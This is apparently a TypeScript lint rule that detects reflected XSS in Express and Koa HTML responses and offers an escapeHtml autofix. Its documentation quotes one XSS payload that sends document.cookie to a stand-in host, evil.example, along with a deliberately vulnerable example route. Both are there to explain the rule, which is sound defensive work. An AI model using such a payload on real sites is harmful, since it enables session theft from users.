import {
  isArrayLiteralExpression, isCallExpression, isElementAccessExpression, isIdentifier,
  isNewExpression, isObjectLiteralExpression, isPropertyAccessExpression, isPropertyAssignment,
  SyntaxKind, ts,
} from '../ts';
import { calleeName, calleeObject, propertyName, stringValue } from '../ast';
import { skipWrappers } from '../modules';
import { enclosingFunction } from '../scopes';
import type { Source } from '../flow';
import { resolveString } from './jwt-verify-algorithms';
import { builtString } from './sql-injection';
import {
  appendHelperEdit, chainRoot, definingExpression, isResponse, isTypeScriptFile, relatedSource, sourceText, trace, wrapEdit, type TraceOptions,
} from '../lib/injection';
import type { Fix, RuleContext, SourceRule, TextEdit } from '../types';

/**
 * Request data written into an HTML response without escaping:
 *
 *   res.send(`<h1>Results for ${req.query.q}</h1>`)
 *   res.send(req.query.name)                     // Express sends strings as text/html
 *   res.writeHead(200, { 'Content-Type': 'text/html' }); res.end('<p>' + msg + '</p>')
 *   ctx.body = `<p>${ctx.query.q}</p>`           // Koa: a body starting with `<` is HTML
 *
 * Not reported: res.json, escaped values (escapeHtml, he.encode,
 * validator.escape, encodeURIComponent, Number), a text/plain or JSON content
 * type set first, Fastify's reply.send of a string (text/plain), and request
 * parts a victim's browser sends encoded or on its own (headers, cookies, the URL).
 */

const HELPER = 'escapeHtml';
const SINK_NAMES: ReadonlySet<string> = new Set(['send', 'write', 'end']);
const TYPE_METHODS: ReadonlySet<string> = new Set(['type', 'contentType']);
const HEADER_METHODS: ReadonlySet<string> = new Set(['set', 'setHeader', 'header', 'writeHead', 'writeHeader']);
const HTML_TAG = /<[a-zA-Z!/]/;
const KOA_NAME = /^(ctx|context)$/;
/**
 * Request parts an attacker cannot choose in a victim's browser: headers and
 * cookies are the browser's own, and the URL and path arrive percent-encoded
 * (`<` is `%3C`). Query values, route params and bodies are decoded.
 */
const UNREFLECTABLE_PARTS: ReadonlySet<string> = new Set(['headers', 'cookies', 'signedCookies', 'url', 'originalUrl', 'path', 'hostname', 'href']);

type ContentType = 'html' | 'other' | undefined;

const PROPERTY_ACCESS = SyntaxKind.PropertyAccessExpression;
const IDENTIFIER = SyntaxKind.Identifier;

export const rule: SourceRule = {
  id: 'xss-response',
  row: 'injection-other',
  severity: 'error',
  description: 'Detects request data written unescaped into an HTML response (res.send/write/end of HTML strings, res.send of a raw request value, Koa ctx.body HTML).',
  message: 'Request data in an HTML response without escaping (reflected XSS): escape it with escapeHtml() or send JSON or text/plain.',
  fixable: true,
  docs: {
    why:
      'Express sends strings as text/html, so a query value like `<script>fetch("//evil.example?c="+document.cookie)</script>` echoed ' +
      "into the page runs in your origin: it can read the user's data, act as them and steal session tokens. One crafted link is enough.",
    bad: "app.get('/search', (req, res) => {\n  res.send(`<h1>Results for ${req.query.q}</h1>`);\n});",
    good:
      "import escapeHtml from 'escape-html';\n\napp.get('/search', (req, res) => {\n  res.send(`<h1>Results for ${escapeHtml(String(req.query.q))}</h1>`);\n});",
    fix:
      'Render pages with a template engine that escapes by default, or escape every request value with escapeHtml (escape-html, he) ' +
      'before it goes into HTML; for APIs use `res.json()`, or set `res.type(\'text/plain\')` before echoing text.',
    cwe: ['CWE-79'],
    owasp: ['A03:2021'],
  },
  create(ctx) {
    // Sinks are `.send/.write/.end(…)` calls; the Koa sink is `ctx.body = …` / `context.body = …`.
    const calls = ctx.mentions('send', 'write', 'end');
    const koa = ctx.mentions('body') && ctx.mentions('ctx', 'context');
    if (!calls && !koa) return {};
    // Calls that may set a content type, in walk order: every one that ends before a sink has been seen when the sink is.
    const setters: TypeSetter[] = [];
    const onCall = (node: ts.CallExpression): void => {
      // calleeName without the call for the common shapes `x.name(…)` / `name(…)`.
      const callee = node.expression;
      const name = callee.kind === PROPERTY_ACCESS ? (callee as ts.PropertyAccessExpression).name.text
        : callee.kind === IDENTIFIER ? (callee as ts.Identifier).text : calleeName(node);
      if (!name) return;
      if (TYPE_METHODS.has(name) || HEADER_METHODS.has(name)) {
        const r = chainRoot(node);
        if (isIdentifier(r)) setters.push({ call: node, root: r.text });
        return;
      }
      if (node.arguments.length === 0 || !SINK_NAMES.has(name)) return;
      const recv = calleeObject(node);
      if (!recv || !isResponse(recv)) return;
      const root = chainRoot(recv);
      const type = contentTypeAt(node, recv, root, setters);
      if (type === 'other') return;
      // Express's res.send(string) defaults to text/html; Node's write/end and Fastify's reply.send do not.
      const htmlDefault = name === 'send' && !(isIdentifier(root) && root.text === 'reply');
      check(ctx, node, node.arguments[0], type === 'html' || htmlDefault, type === 'html');
    };
    // Koa: ctx.body = `<p>${ctx.query.q}</p>`
    const onAssignment = (node: ts.BinaryExpression): void => {
      if (node.operatorToken.kind !== SyntaxKind.EqualsToken) return;
      const left = node.left;
      if (!isPropertyAccessExpression(left) || left.name.text !== 'body') return;
      const root = skipWrappers(left.expression);
      if (!isIdentifier(root) || !KOA_NAME.test(root.text)) return;
      const built = builtString(node.right);
      if (!built || !built.literals[0].trimStart().startsWith('<')) return;
      check(ctx, node, node.right, false, false);
    };
    return { CallExpression: calls ? onCall : undefined, BinaryExpression: koa ? onAssignment : undefined };
  },
};

/**
 * Reports a sink argument that carries request data into HTML: a built string
 * with tags (or any built string when the response is HTML anyway), or a raw
 * request value when strings are sent as HTML.
 */
function check(ctx: RuleContext, sink: ts.Node, arg: ts.Expression, stringsAreHtml: boolean, typeIsHtml: boolean): void {
  const built = builtString(arg);
  if (built) {
    const html = HTML_TAG.test(built.literals.join(''));
    if (!html && !stringsAreHtml) return;
    const tainted: { expr: ts.Expression; source: Source }[] = [];
    for (const e of built.exprs) {
      const source = trace(ctx, e, XSS_TRACE);
      if (source && !UNREFLECTABLE_PARTS.has(source.part)) tainted.push({ expr: e, source });
    }
    if (tainted.length === 0) return;
    report(ctx, sink, tainted[0].source, tainted.map((t) => t.expr));
    return;
  }
  if (!stringsAreHtml && !typeIsHtml) return;
  if (!isScalarRead(ctx, arg)) return;
  const source = trace(ctx, arg, XSS_TRACE);
  if (source && !UNREFLECTABLE_PARTS.has(source.part)) report(ctx, sink, source, [arg]);
}

function report(ctx: RuleContext, sink: ts.Node, source: Source, exprs: ts.Expression[]): void {
  ctx.report(sink, {
    message: `Request data (${sourceText(source)}) written into an HTML response without escaping (reflected XSS): escape it with escapeHtml() or send JSON or text/plain.`,
    related: relatedSource(source),
    fixes: escapeFix(ctx, exprs),
  });
}

/** A single value read from the request (a field, a header), not a whole part, an object or an array: those go out as JSON. */
function isScalarRead(ctx: RuleContext, arg: ts.Expression): boolean {
  const def = definingExpression(arg);
  if (isObjectLiteralExpression(def) || isArrayLiteralExpression(def) || isNewExpression(def)) return false;
  if (ctx.flow.wholeSource(arg)) return false;
  return isPropertyAccessExpression(def) || isElementAccessExpression(def) || isIdentifier(def) || isCallExpression(def);
}

function isEscapeName(n: string): boolean {
  const lower = n.toLowerCase();
  if (lower.startsWith('un') || lower.includes('decode')) return false;
  return /escape|encode|sanitiz|purif|xss|striptags|strip_tags|htmlentities|clean/i.test(n);
}

const XSS_TRACE: TraceOptions = {
  sanitizes(_ctx, e) {
    if (!isCallExpression(e)) return false;
    const n = calleeName(e) ?? '';
    if (isEscapeName(n)) return true;
    // x.replace(/</g, '&lt;'): a hand-written entity escape.
    if ((n === 'replace' || n === 'replaceAll') && (stringValue(e.arguments[1]) ?? '').includes('&')) return true;
    return false;
  },
};

/** A call named like a content-type setter (`type`, `set`, `writeHead` …) on a chain rooted at the identifier `root`. */
interface TypeSetter {
  call: ts.CallExpression;
  root: string;
  /** typeSetBy(call), once asked; null for undefined. */
  type?: ContentType | null;
}

/** The content type set on this response before the sink (in its call chain or earlier in the function). */
function contentTypeAt(sink: ts.CallExpression, recv: ts.Expression, root: ts.Node, setters: TypeSetter[]): ContentType {
  let type: ContentType;
  // res.type('text/plain').send(x), res.status(200).set('Content-Type', 'text/html').send(x)
  for (let e = skipWrappers(recv); isCallExpression(e); ) {
    const t = typeSetBy(e);
    if (t !== undefined) return t;
    const c = skipWrappers(e.expression);
    if (!isPropertyAccessExpression(c)) break;
    e = skipWrappers(c.expression);
  }
  if (!isIdentifier(root)) return undefined;
  const fn = enclosingFunction(sink);
  const body = fn && (fn as ts.FunctionLikeDeclaration).body;
  if (!body) return undefined;
  // The last call in the function (in walk order) that ends before the sink and sets the type on the same root.
  // res.statusCode = 200; res.headers['content-type'] … are rare; calls cover the common forms.
  const from = body.pos;
  const to = body.end;
  for (const s of setters) {
    const c = s.call;
    if (c.end > sink.pos || c.pos < from || c.end > to || s.root !== root.text) continue;
    if (s.type === undefined) s.type = typeSetBy(c) ?? null;
    if (s.type !== null) type = s.type;
  }
  return type;
}

/** The content type one call sets: `type('html')`, `set('Content-Type', 'text/plain')`, `writeHead(200, { 'Content-Type': … })`. */
function typeSetBy(call: ts.CallExpression): ContentType {
  const name = calleeName(call);
  if (!name) return undefined;
  const args = call.arguments;
  if (TYPE_METHODS.has(name)) return classify(args[0]);
  if (!HEADER_METHODS.has(name)) return undefined;
  const header = resolveString(args[0]);
  if (header !== undefined) return header.toLowerCase() === 'content-type' ? classify(args[1]) : undefined;
  for (const a of args) {
    const obj = skipWrappers(a);
    if (!isObjectLiteralExpression(obj)) continue;
    for (const p of obj.properties) {
      if (isPropertyAssignment(p) && propertyName(p.name)?.toLowerCase() === 'content-type') return classify(p.initializer);
    }
  }
  return undefined;
}

function classify(value: ts.Expression | undefined): ContentType {
  const s = value && resolveString(value);
  if (s === undefined) return undefined;
  return /html/i.test(s) ? 'html' : 'other';
}

// ---------------------------------------------------------------------------
// Fix: wrap each tainted value in escapeHtml(…) and add the helper once

function escapeFix(ctx: RuleContext, exprs: ts.Expression[]): Fix[] {
  const sf = ctx.sourceFile;
  const typed = isTypeScriptFile(ctx.file);
  const edits: TextEdit[] = exprs.map((e) => wrapEdit(sf, e, HELPER));
  const helper = appendHelperEdit(
    sf,
    HELPER,
    '/** Escapes text for HTML element content and quoted attribute values. */\n' +
      `function ${HELPER}(value${typed ? ': unknown): string' : ')'} {\n` +
      "  return String(value).replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/\"/g, '&quot;').replace(/'/g, '&#39;');\n" +
      '}',
  );
  if (helper) edits.push(helper);
  return [{ title: 'Escape request data with escapeHtml()', edits, preferred: false }];
}
